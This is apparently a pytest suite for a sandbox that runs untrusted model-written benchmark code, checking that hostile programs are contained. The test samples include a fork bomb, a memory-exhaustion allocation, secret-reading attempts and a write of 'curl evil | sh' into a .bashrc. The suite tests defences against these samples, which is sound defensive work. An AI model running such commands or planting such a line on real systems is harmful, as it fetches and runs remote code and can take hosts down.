"""Model-written code is untrusted input: hostile programs are contained, scored as
failures, touch nothing outside their folder, and the next program still runs."""

from __future__ import annotations

import os
import socket
import time
from pathlib import Path

import pytest

from pipeline.errors import UsageError
from pipeline.evaluate import sandbox
from pipeline.evaluate.sandbox import Limits, require_code_execution, sandbox_for


@pytest.fixture(scope="module")
def box() -> sandbox.Sandbox:
    return sandbox_for("sandboxed", where="test", limits=Limits(cpu_s=3, wall_s=4.0))


def _outside(tmp_path: Path, name: str) -> Path:
    """A folder with the permissions of a real one (others may read, not write)."""
    d = tmp_path / name
    d.mkdir(mode=0o755)
    os.chmod(tmp_path, 0o755)
    return d


def test_isolation_here_is_namespaces_and_an_unprivileged_user(box):
    # this host and CI run as root: both namespaces and the user change apply
    assert box.namespaces and box.uid == 65534
    assert "network+pid namespaces" in box.isolation and "uid 65534" in box.isolation


def test_a_right_program_passes_and_a_wrong_one_fails(box):
    assert box.run("assert 1 + 1 == 2\n").status == "passed"
    wrong = box.run("assert 1 + 1 == 3\n")
    assert wrong.status == "failed" and "AssertionError" in wrong.output


def test_an_endless_loop_is_killed_at_the_wall_timeout(box):
    t0 = time.monotonic()
    out = box.run("while True:\n    pass\n")
    assert out.status in ("timeout", "failed") and not out.passed  # cpu limit or wall
    assert time.monotonic() - t0 < box.limits.wall_s + 3


def test_a_fork_bomb_is_contained_and_leaves_no_process(box):
    bomb = "import os, time\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        time.sleep(0.01)\n"
    t0 = time.monotonic()
    out = box.run(bomb + "# qship-fork-bomb-marker\n")
    assert not out.passed and time.monotonic() - t0 < box.limits.wall_s + 5
    time.sleep(0.5)
    left = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if os.stat(f"/proc/{pid}").st_uid == box.uid:
                left.append(Path(f"/proc/{pid}/cmdline").read_bytes())
        except OSError:
            continue
    assert not [c for c in left if b"qship-sandbox-" in c]
    assert box.run("pass\n").passed  # the run goes on


def test_a_10_gb_allocation_fails(box):
    out = box.run("x = bytearray(10 * 2**30)\n")
    assert out.status == "failed" and "MemoryError" in out.output


def test_writes_into_the_artifact_folder_and_home_are_refused(box, tmp_path):
    artifact, home = _outside(tmp_path, "artifact"), _outside(tmp_path, "home")
    (artifact / "model.safetensors").write_bytes(b"weights")
    program = (
        f"open({str(artifact / 'evil.txt')!r}, 'w').write('x')\n"
        f"open({str(artifact / 'model.safetensors')!r}, 'wb').write(b'')\n"
        f"open({str(home / '.bashrc')!r}, 'w').write('curl evil | sh')\n"
    )
    out = box.run(program)
    assert out.status == "failed" and "PermissionError" in out.output
    assert sorted(p.name for p in artifact.iterdir()) == ["model.safetensors"]
    assert (artifact / "model.safetensors").read_bytes() == b"weights"
    assert list(home.iterdir()) == []
    # its own HOME is its empty temp folder, gone afterwards
    home_is_own = "import os\nh = os.path.expanduser('~')\n"
    home_is_own += "assert sorted(os.listdir(h)) == ['output.txt', 'program.py']\n"
    own = box.run(home_is_own + "open(os.path.join(h, 'x'), 'w').write('x')\n")
    assert own.passed, own.output


def test_a_canary_file_outside_is_not_deleted(box, tmp_path):
    canary = _outside(tmp_path, "data") / "canary.txt"
    canary.write_text("alive")
    out = box.run(f"import os\nos.remove({str(canary)!r})\n")
    assert out.status == "failed" and canary.read_text() == "alive"


def test_an_environment_secret_is_not_inherited(box, monkeypatch):
    monkeypatch.setenv("QSHIP_TEST_SECRET", "hunter2")
    monkeypatch.setenv("HF_TOKEN", "hf_secret")
    out = box.run("import os, sys\nprint(sorted(os.environ))\n"
                  "sys.exit(0 if 'hunter2' in str(os.environ) or 'HF_TOKEN' in os.environ "
                  "else 1)\n")  # fmt: skip
    assert out.status == "failed" and "hunter2" not in out.output


def test_a_socket_to_localhost_cannot_connect(box):
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen(1)
        server.settimeout(0.5)
        port = server.getsockname()[1]
        out = box.run(
            f"import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=2)\n"
        )
        assert out.status == "failed" and "unreachable" in out.output
        with pytest.raises(TimeoutError):
            server.accept()


def test_code_tasks_without_the_opt_in_are_refused(monkeypatch):
    monkeypatch.delenv(sandbox.OPT_IN_ENV, raising=False)
    with pytest.raises(UsageError, match="code_execution") as e:
        require_code_execution("off", ["humaneval"], where="r.yaml")
    assert e.value.exit_code == 2 and "HF_ALLOW_CODE_EVAL=1" in e.value.hint
    require_code_execution("off", [], where="r.yaml")  # no code task: nothing to refuse
    monkeypatch.setenv(sandbox.OPT_IN_ENV, "1")
    require_code_execution("off", ["humaneval"], where="r.yaml")  # lm-eval's opt-in


def test_without_namespaces_it_refuses_unless_accepted(monkeypatch):
    monkeypatch.setattr(sandbox, "_namespaces_work", lambda uid: False)
    with pytest.raises(UsageError, match="network namespace") as e:
        sandbox_for("sandboxed", where="r.yaml")
    assert e.value.exit_code == 2 and "sandboxed-no-netns" in e.value.hint
    box = sandbox_for("sandboxed-no-netns", where="r.yaml")
    assert not box.namespaces and "NO network namespace" in box.isolation
    assert box.run("pass\n").passed


def test_a_sandbox_that_cannot_start_python_is_refused(monkeypatch):
    """Not every program scored 0 in silence: exit 2 naming the interpreter."""
    monkeypatch.setattr(sandbox, "PYTHON", "/nonexistent/python3")
    with pytest.raises(UsageError, match="cannot run Python") as e:
        sandbox_for("sandboxed-no-netns", where="r.yaml")
    assert e.value.exit_code == 2 and "/nonexistent/python3" in e.value.hint


def test_a_run_with_a_code_task_and_no_opt_in_stops_before_quantize(
    tmp_path, tiny_llama, qship_test_cache, capsys, monkeypatch
):
    import json

    from cli_run import qship

    monkeypatch.delenv(sandbox.OPT_IN_ENV, raising=False)
    recipe = tmp_path / "r.yaml"
    recipe.write_text(json.dumps({
        "name": "code", "others": "keep",
        "groups": [{"name": "all", "targets": ["re:.*_proj$"], "method": "rtn",
                    "scheme": {"bits": 4, "group_size": 32}}],
        "calibration": {"num_samples": 4, "seq_len": 64},
        "evaluation": {"sequences": 2, "seq_len": 64, "tasks": ["mbpp"], "limit": 2},
    }))  # fmt: skip
    out = tmp_path / "art"
    rc, res = qship(capsys, "run", "--model", str(tiny_llama), "--recipe", str(recipe),
                    "--out", str(out), "--cache-dir", str(qship_test_cache))  # fmt: skip
    assert rc == 2 and "evaluation.code_execution" in res["message"], res
    assert not out.exists()
    stages = [
        s["stage"] for s in json.loads((Path(f"{out}.report") / "run.json").read_text())["stages"]
    ]
    assert "quantize" not in stages


def test_no_file_descriptor_is_inherited(box, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("token")
    fd = os.open(secret, os.O_RDONLY)
    high = os.dup2(fd, 200, inheritable=True)  # one a careless parent would pass on
    try:
        out = box.run(f"import os\nprint(os.read({high}, 100))\n")
    finally:
        os.close(high)
        os.close(fd)
    assert out.status == "failed" and "Bad file descriptor" in out.output
    assert "token" not in out.output
